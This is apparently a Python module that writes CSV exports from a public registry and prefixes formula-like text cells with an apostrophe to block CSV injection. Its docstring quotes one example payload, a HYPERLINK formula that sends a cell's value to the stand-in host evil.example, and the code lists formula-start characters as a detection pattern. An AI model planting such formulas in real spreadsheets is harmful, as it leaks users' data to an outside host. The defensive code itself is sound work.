"""CSV that a spreadsheet opens without running anything in it.

The registry is filled in by the public, so a name may be `=HYPERLINK("http://evil.example/?"&A1,"Click")`. Excel,
LibreOffice and Google Sheets run a cell that begins with `=`, `+`, `-` or `@` (and a tab or carriage return
before one) as a formula. As OWASP recommends for CSV injection, such a text cell is written with a leading `'`,
which spreadsheets show as text and do not keep as part of the value; numbers are written as they are, so a
negative latitude stays a number. `raw=True` keeps every value verbatim, for programs that read the file.
The Data and methods page says this to readers.
"""

from __future__ import annotations

from pathlib import Path

import polars as pl

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralise(frame: pl.DataFrame) -> pl.DataFrame:
    """Every text cell that a spreadsheet would run as a formula, prefixed with `'`; other cells unchanged."""
    pattern = "^[" + "".join({"\t": "\\t", "\r": "\\r", "-": "\\-", "+": "\\+"}.get(c, c) for c in FORMULA_STARTS) + "]"
    text = [name for name, dtype in frame.schema.items() if dtype == pl.String]
    return frame.with_columns(
        pl.when(pl.col(name).str.contains(pattern)).then(pl.lit("'") + pl.col(name)).otherwise(pl.col(name)).alias(name)
        for name in text)


def write_csv(frame: pl.DataFrame, path: Path | None = None, *, raw: bool = False, **options) -> str | None:
    """`frame.write_csv(path, **options)`, with formula-like text cells neutralised unless `raw`."""
    return (frame if raw else neutralise(frame)).write_csv(path, **options)
